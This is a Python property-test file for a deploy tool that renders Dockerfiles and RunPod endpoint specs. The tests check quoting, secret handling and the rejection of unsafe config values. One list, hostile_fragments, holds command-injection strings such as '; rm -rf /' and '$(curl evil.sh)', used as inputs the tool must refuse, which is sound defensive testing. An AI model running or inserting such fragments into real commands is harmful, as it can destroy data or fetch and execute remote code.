"""Security properties of rendering, checked over generated inputs (BentoML-style)."""

from __future__ import annotations

import json
import os
import shlex
import uuid
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deploy.config import load_config
from deploy.config.patterns import CONTROL_CHARS, FORBIDDEN_CHARS, hidden_char
from deploy.errors import ConfigError, RenderError
from deploy.render import render_project
from deploy.render.filters import dockerfile_env, exec_form, shell_quote
from tests.conftest import BASE_CONFIG
from tests.render_scenarios import IMAGE

#: Examples per property. Mutation runs (scripts/mutation.py) take fewer: every surviving mutant
#: runs every property, and a smaller sample can only let more mutants survive, never fewer.
EXAMPLES = int(os.environ.get("RPDEPLOY_PROPERTY_EXAMPLES", "60"))
SETTINGS = settings(
    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

#: One line of text that rendering accepts: no character patterns.CONTROL_CHARS refuses
#: (controls, bidi controls, line separators).
single_line = st.text(st.characters(blacklist_categories=["Cc", "Cs"]), min_size=1, max_size=40).filter(
    lambda text: not CONTROL_CHARS.search(text)
)
hostile_fragments = st.sampled_from(
    [
        "; rm -rf /",
        "$(curl evil.sh)",
        "`id`",
        "\nRUN evil",
        "&& reboot",
        "| sh",
        " x",
        "\r",
        "'\"",
        "$HOME",
        "../",
    ]
)


def write_project(base: Path, config: str) -> Path:
    root = base / uuid.uuid4().hex
    (root / "worker").mkdir(parents=True)
    (root / "worker" / "handler.py").write_text("")
    (root / "worker" / "requirements.txt").write_text("runpod\n")
    (root / "rpdeploy.yaml").write_text(config)
    return root


def render_all(root: Path, environment: str | None = None) -> dict[str, str]:
    return render_project(load_config(root / "rpdeploy.yaml", environment), IMAGE).files


@given(single_line)
def test_shell_quote_round_trips(value: str) -> None:
    assert shlex.split(shell_quote(value)) == [value]


@given(
    st.tuples(
        st.text(max_size=10),
        st.sampled_from(["\n", "\r", "\x00", "\x1b", "\x7f", "\x85", "\u202e", "\u2066", "\u2028"]),
        st.text(max_size=10),
    ).map("".join)
)
def test_control_characters_are_refused_everywhere(value: str) -> None:
    for render in (shell_quote, dockerfile_env, exec_form):
        with pytest.raises(RenderError):
            render(value)


@pytest.mark.parametrize(
    "template",
    [
        "strategy: slim\n  system_packages: [{value}]",
        "base: {value}",
        "repository: {value}",
    ],
)
@SETTINGS
@given(prefix=st.sampled_from(["numpy", "ffmpeg", "acme/x"]), fragment=hostile_fragments)
def test_hostile_values_are_rejected_before_rendering(
    tmp_path: Path, template: str, prefix: str, fragment: str
) -> None:
    value = json.dumps(prefix + fragment)  # a YAML double-quoted string, newlines included
    key = template.split(":", 1)[0]
    line = next(li for li in BASE_CONFIG.splitlines() if li.strip().startswith(key + ":"))
    config = BASE_CONFIG.replace(line, "  " + template.format(value=value), 1)
    root = write_project(tmp_path, config)
    with pytest.raises(ConfigError) as caught:
        render_all(root)
    assert "rpdeploy.yaml:" in str(caught.value)
    assert sorted(p.name for p in root.iterdir()) == ["rpdeploy.yaml", "worker"]  # nothing half-written


#: Text a config can hold in handler.command: no quotes or backslash (the test quotes with
#: shlex), nothing the config refuses (`hidden_char`: controls, format and invisible
#: characters), and ``$``, ``{`` and ``}`` drawn often, since the config must carry them
#: through interpolation.
command_text = st.text(
    st.one_of(
        st.sampled_from("${}"),
        st.characters(blacklist_categories=["Cc", "Cs"], blacklist_characters="'\"\\"),
    ),
    max_size=20,
).filter(lambda text: hidden_char(text) is None)


@SETTINGS
@given(command_arg=command_text)
def test_start_command_never_reaches_a_shell(tmp_path: Path, command_arg: str) -> None:
    command = json.dumps("python3 -u " + shlex.quote(command_arg))
    # `$$` is the config's escape for a literal `$` (deploy.config.interpolate).
    config = BASE_CONFIG.replace(
        "  file: handler.py", f"  file: handler.py\n  command: {command.replace('$', '$$')}"
    )
    dockerfile = render_all(write_project(tmp_path, config))["Dockerfile.slim"]
    cmd = next(line for line in dockerfile.splitlines() if line.startswith("CMD "))
    assert json.loads(cmd[4:]) == ["python3", "-u", command_arg]


@SETTINGS
@given(
    # Every name RunPod's secret-name rule allows (deploy.runpod.secrets), `.` and `/` included.
    names=st.lists(
        st.from_regex(r"[A-Za-z_][A-Za-z0-9_./-]{0,19}", fullmatch=True).filter(
            lambda n: not n.upper().startswith("RUNPOD")
        ),
        min_size=1,
        max_size=4,
        unique=True,
    )
)
def test_secret_references_are_preserved_byte_for_byte(tmp_path: Path, names: list[str]) -> None:
    entries = "".join(f"  - name: SECRET_{i}\n    secret: {json.dumps(n)}\n" for i, n in enumerate(names))
    config = BASE_CONFIG.replace("  - name: AWS_ACCESS_KEY_ID\n  - name: AWS_SECRET_ACCESS_KEY\n", entries)
    files = render_all(write_project(tmp_path, config))
    spec = json.loads(next(v for k, v in files.items() if k.endswith("endpoint.create.json")))
    for i, name in enumerate(names):
        assert spec["env"][f"SECRET_{i}"] == "{{ RUNPOD_SECRET_" + name + " }}"
    assert not any("RUNPOD_SECRET" in v for k, v in files.items() if k.startswith("Dockerfile"))


@SETTINGS
@given(
    value=st.text(
        st.characters(blacklist_categories=["Cc", "Cs", "Co", "Cn", "Zl", "Zp"]), min_size=1, max_size=30
    ).filter(lambda text: not FORBIDDEN_CHARS.search(text))  # what an env value can hold
)
def test_endpoint_env_values_are_data_not_templates(tmp_path: Path, value: str) -> None:
    quoted = json.dumps(value, ensure_ascii=False).replace("$", "$$")  # `$$`: a literal `$`
    config = BASE_CONFIG.replace("  scaling:", f"  env:\n    ANY_VALUE: {quoted}\n  scaling:")
    files = render_all(write_project(tmp_path, config))
    spec = json.loads(next(v for k, v in files.items() if k.endswith("endpoint.create.json")))
    assert spec["env"]["ANY_VALUE"] == value


@SETTINGS
@given(
    secret_value=st.text(st.characters(whitelist_categories=["L", "N"]), min_size=8, max_size=30).map(
        "zZ-secret-".__add__
    )
)
def test_inline_secret_values_never_reach_rendered_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, secret_value: str
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret_value)
    config = BASE_CONFIG.replace(
        "  - name: AWS_SECRET_ACCESS_KEY", "  - name: AWS_SECRET_ACCESS_KEY\n    mode: inline"
    )
    files = render_all(write_project(tmp_path, config))
    assert all(secret_value not in content for content in files.values())
    spec = json.loads(next(v for k, v in files.items() if k.endswith("endpoint.create.json")))
    assert spec["env"]["AWS_SECRET_ACCESS_KEY"] == "***"


@SETTINGS
@given(
    workers=st.tuples(st.integers(0, 5), st.integers(0, 5)).map(sorted),
    pools=st.lists(
        st.sampled_from(["ADA_24", "AMPERE_16", "AMPERE_80", "HOPPER_141"]), min_size=1, max_size=3
    ),
    strategy=st.sampled_from(["slim", "baked"]),
)
def test_rendering_is_deterministic(
    tmp_path: Path, workers: list[int], pools: list[str], strategy: str
) -> None:
    config = (
        BASE_CONFIG.replace("{min: 0, max: 2,", f"{{min: {workers[0]}, max: {workers[1]},")
        .replace("pools: [ADA_24]", f"pools: {json.dumps(pools)}")
        .replace("strategy: slim", f"strategy: {strategy}")
    )
    root = write_project(tmp_path, config)
    assert render_all(root) == render_all(root)
